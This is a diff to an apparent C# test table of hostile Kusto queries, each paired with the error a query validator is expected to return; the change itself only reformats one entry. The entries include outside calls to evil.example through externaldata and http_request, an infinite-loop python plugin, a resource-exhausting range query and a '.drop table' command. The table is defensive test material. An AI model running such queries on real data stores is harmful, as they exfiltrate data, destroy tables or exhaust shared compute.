@@ -38,7 +38,10 @@ public static class HostileCalls
         { "externaldata (a: string) ['https://evil.example/x.csv']", Outside },
         { "AppRequests | extend a = toscalar(externaldata(a:string)[@'https://evil.example/?q=1'])", Outside },
         { "AppRequests | evaluate http_request('https://evil.example')", "the plugin 'http_request' is not allowed" },
-        { "AppRequests | evaluate hint.distribution = per_node python(typeof(*), 'while True: pass')", "the plugin 'python' is not allowed" },
+        {
+            "AppRequests | evaluate hint.distribution = per_node python(typeof(*), 'while True: pass')",
+            "the plugin 'python' is not allowed"
+        },
         { "set servertimeout = 4h; range x from 1 to 1e18 step 1", Statement },
         { "let a = 1; set notruncation; AppRequests", Statement },
         { ".drop table AppRequests", Statement },
